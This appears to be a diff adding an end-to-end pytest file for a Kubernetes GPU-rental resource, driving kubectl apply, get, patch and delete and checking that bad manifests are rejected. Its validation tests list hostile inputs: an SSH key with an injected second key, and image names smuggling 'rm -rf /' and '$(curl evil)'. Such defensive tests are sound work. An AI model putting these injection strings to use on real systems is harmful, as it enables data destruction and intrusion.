@@ -1,0 +1,102 @@
+"""Driving rentals the way users do: kubectl apply, get, patch, delete."""
+
+from __future__ import annotations
+
+from collections.abc import Callable
+from subprocess import CompletedProcess
+
+import pytest
+from e2e_support import Rentals, eventually
+
+Kubectl = Callable[..., CompletedProcess[str]]
+
+RENTAL = """
+apiVersion: gpurental.dev/v1alpha1
+kind: GpuRental
+metadata: {{name: {name}}}
+spec:
+  offer: rtx4090
+  gpus: 1
+  image: pytorch/pytorch:2.4.0-cuda12.1-cudnn9-runtime
+  command: ["sleep", "infinity"]
+{extra}
+"""
+
+
+def apply(kubectl: Kubectl, namespace: str, name: str = "finetune", extra: str = "",
+          check: bool = True) -> CompletedProcess[str]:
+    return kubectl("apply", "-n", namespace, "-f", "-",
+                   input=RENTAL.format(name=name, extra=extra), check=check)
+
+
+def test_apply_get_patch_delete(rentals: Rentals, kubectl: Kubectl) -> None:
+    ns = rentals.namespace
+    assert "gpurental.gpurental.dev/finetune created" in apply(kubectl, ns).stdout
+    rentals.wait_phase("finetune", "Running")
+
+    table = kubectl("get", "gpurentals", "-n", ns).stdout.splitlines()
+    assert table[0].split() == ["NAME", "PHASE", "OFFER", "GPUS", "RATE", "RAN", "FOR",
+                                "TOTAL", "AGE"]
+    row = table[1].split()
+    assert row[:5] == ["finetune", "Running", "rtx4090", "1", "0.69"]
+    assert row[6].startswith("$")
+    assert kubectl("get", "gr", "-n", ns, "-o", "name").stdout.strip() == \
+        "gpurental.gpurental.dev/finetune"
+    assert "finetune" in kubectl("get", "gpurental", "-n", ns).stdout  # the category
+
+    kubectl("patch", "gr", "finetune", "-n", ns, "--type", "merge",
+            "-p", '{"spec":{"state":"Paused"}}')
+    rentals.wait_phase("finetune", "Paused")
+    jsonpath = "{.status.phase} {.status.conditions[?(@.type=='Paused')].reason}"
+    assert kubectl("get", "gr", "finetune", "-n", ns, "-o",
+                   f"jsonpath={jsonpath}").stdout == "Paused UserRequested"
+
+    kubectl("patch", "gr", "finetune", "-n", ns, "--type", "merge",
+            "-p", '{"spec":{"state":"Stopped"}}')
+    rentals.wait_phase("finetune", "Stopped")
+    kubectl("delete", "gr", "finetune", "-n", ns, "--wait=true", "--timeout=60s")
+    assert kubectl("get", "gr", "-n", ns, "-o", "name").stdout.strip() == ""
+    eventually(lambda: rentals.pods() == [] and rentals.pvcs() == [])
+
+
+def test_reapplying_the_same_manifest_changes_nothing(rentals: Rentals, kubectl: Kubectl) -> None:
+    apply(kubectl, rentals.namespace, "steady")
+    rentals.wait_phase("steady", "Running")
+    before = rentals.get("steady")["metadata"]["generation"]
+    assert "unchanged" in apply(kubectl, rentals.namespace, "steady").stdout
+    assert rentals.get("steady")["metadata"]["generation"] == before
+
+
+@pytest.mark.parametrize(("extra", "field"), [
+    ("  gpus: -1", "spec.gpus"),
+    ("  gpus: 100000", "spec.gpus"),
+    ('  gpus: "two"', "spec.gpus"),
+    ("  state: Exploded", "spec.state"),
+    ('  duration: "4 hours"', "spec.duration"),
+    ("  onExpiry: Delete", "spec.onExpiry"),
+    ('  storage: {size: "lots"}', "spec.storage.size"),
+    ('  storage: {mountPath: "relative/path"}', "spec.storage.mountPath"),
+    ('  sshKeys: ["not a key"]', "spec.sshKeys[0]"),
+    ('  sshKeys: ["ssh-ed25519 AAAA x\\nssh-rsa BBBB injected"]', "spec.sshKeys[0]"),
+    ("  wallet: Not_A_Name", "spec.wallet"),
+])
+def test_bad_manifests_are_rejected_with_the_field_named(
+    rentals: Rentals, kubectl: Kubectl, extra: str, field: str
+) -> None:
+    result = apply(kubectl, rentals.namespace, "bad", extra, check=False)
+    assert result.returncode != 0
+    assert field in result.stderr, result.stderr
+    assert rentals.pods() == []
+
+
+@pytest.mark.parametrize(("image", "field"), [
+    ("busybox; rm -rf /", "spec.image"),
+    ("$(curl evil)", "spec.image"),
+    ("", "spec.image"),
+])
+def test_hostile_images_are_rejected(rentals: Rentals, kubectl: Kubectl, image: str,
+                                     field: str) -> None:
+    manifest = RENTAL.format(name="bad", extra="").replace(
+        "pytorch/pytorch:2.4.0-cuda12.1-cudnn9-runtime", f"'{image}'")
+    result = kubectl("apply", "-n", rentals.namespace, "-f", "-", input=manifest, check=False)
+    assert result.returncode != 0 and field in result.stderr, result.stderr
